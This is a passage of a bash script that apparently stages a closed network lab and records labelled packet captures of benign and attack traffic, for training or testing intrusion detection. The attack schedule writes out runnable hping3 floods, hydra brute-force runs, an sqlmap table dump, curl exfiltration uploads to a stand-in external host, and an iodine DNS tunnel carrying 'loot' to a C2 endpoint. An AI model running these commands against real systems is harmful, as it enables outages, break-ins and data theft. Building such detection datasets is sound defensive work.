  attack audpf 175.16.199.66 attack udpflood 0.58 60 -- hping3 -q -2 -p 5060 -d 120 -c 20000 -i u500 10.10.0.90
  victim 10.10.0.90 udpflood 175.16.199.66
  attack aicmp 89.160.20.200 attack icmpflood 0.63 60 -- hping3 -q -1 -d 500 -c 20000 -i u500 10.10.0.104
  victim 10.10.0.104 icmpflood 89.160.20.200

  # Brute force: hydra, small wordlists, every attempt fails.
  attack abrute 89.160.20.45 attack bruteforce 0.26 240 -- hydra -I -q -t 4 -L $d/users2.txt -P $d/pass20.txt -s 22 ssh://10.10.0.11
  attack ws07 10.10.0.107 attack bruteforce 0.50 240 -- hydra -I -q -t 4 -l root -P $d/pass40.txt -s 2222 ssh://10.10.0.11
  attack aftp 216.160.83.45 attack bruteforce 0.66 240 -- hydra -I -q -t 4 -l admin -P $d/pass30.txt ftp://10.10.0.12
  attack ahttp 81.2.69.45 attack bruteforce 0.70 240 -- hydra -I -q -t 4 -L $d/users5.txt -P $d/pass10.txt -s 80 10.10.0.10 http-get /admin

  # SQL injection
  attack asql 175.16.199.45 attack webattack 0.74 240 -- sqlmap -u "http://10.10.0.10/app?id=1" --batch --dbms=SQLite \
      --level 2 --risk 1 --banner --tables --dump -T users --threads 2 --flush-session --disable-coloring --output-dir "$W/sqlmap"

  # Exfiltration: 20 MiB to an internal server, 20 MiB to an external-looking one.
  attack ws11 10.10.0.111 attack exfil 0.45 300 -- curl -s -o /dev/null -T "$T/exfil-internal.zip" http://10.10.0.20:8080/upload/q3-financials.zip
  attack ws08 10.10.0.108 attack exfil 0.80 300 -- curl -s -o /dev/null --cacert "$W/ca/ca.pem" -T "$T/exfil-external.7z" https://files.sharebox.test/upload/archive.7z

  # DNS tunnel: iodine client to the iodined authoritative for t.tun.test, then 1 MiB
  # pushed through the tunnel and a few small requests.
  attack ws12 10.10.0.112 attack tunnel 0.33 240 -- bash -c '
    iodine -f -r -P labtunnelpw 175.16.199.53 t.tun.test & ip=$!
    for i in $(seq 1 40); do ip addr show dns0 2>/dev/null | grep -q "inet " && break; sleep 0.5; done
    for i in 1 2 3; do curl -s -o /dev/null -m 20 http://172.30.0.1:8000/c/$i; sleep 2; done
    curl -s -o /dev/null -m 150 -T '"$T"'/tunnel-loot.bin http://172.30.0.1:8000/upload/loot.bin
    kill $ip; wait $ip'
}

run_phase() {  # name number
  local phase=$1 pn=$2
  T0=$(date +%s); END=$((T0 + D))
  log "phase $phase: $D s, until $(date -d @$END +%H:%M:%S)"
  start_capture "$phase"
  start_agents "$pn"
  [ "$phase" = attack ] && schedule_attacks
  local n=0
  while [ "$(date +%s)" -lt "$END" ] && [ $n -lt $((D + 60)) ]; do sleep 5; n=$((n + 5)); done
  stop_phase
  sleep 3
  stop_capture "$phase"
  T1=$(date +%s)
  log "phase $phase: trimming"
  python3 "$LAB/trim.py" "$RAW" "$OUT/$phase.pcap.gz" --seen "$W/seen-$phase.csv" || die "trim"
  python3 "$LAB/labels.py" --hosts "$W/hosts.csv" --seen "$W/seen-$phase.csv" \
    --events "$( [ "$phase" = attack ] && echo "$EVENTS" || echo /dev/null)" \
    --victims "$( [ "$phase" = attack ] && echo "$W/victims.csv" || echo /dev/null)" \
    --t0 "$T0" --t1 "$T1" >"$OUT/$phase.labels.csv" || die "labels"
  rm -f "$RAW"
  log "phase $phase: $(du -h "$OUT/$phase.pcap.gz" | cut -f1) $OUT/$phase.pcap.gz"
}

# ---- main -----------------------------------------------------------------------------
started=$(date +%s)
: >"$W/victims.csv"
mkdir -p "$W/home"
export HOME=$W/home
cd "$W/run" || die "cd $W/run"
build_topology
for h in "${HOSTS[@]}"; do
  ll=$(ip -n "tl-$h" -6 -o addr show dev eth0 scope link 2>/dev/null | awk '{print $4}' | cut -d/ -f1 | head -1)
  echo "$h,${IP4[$h]},${IP6[$h]},${ROLE[$h]},${ll:--}"
done >"$W/hosts.csv"
make_certs
make_data
# The tunnel endpoint's web app binds to the tunnel address once iodined made it.
start_services
check_services
( for i in $(seq 1 40); do ip -n tl-tundns addr show dns0 2>/dev/null | grep -q 172.30.0.1 && break; sleep 0.5; done )
webapp tundns tunweb --bind 172.30.0.1 --http 8000 --c2 --name t.tun.test
pn=0
for phase in $PHASES; do
  pn=$((pn + 1))
  run_phase "$phase" "$pn"
done
log "done in $(( $(date +%s) - started )) s; outputs in $OUT"
ls -la "$OUT"
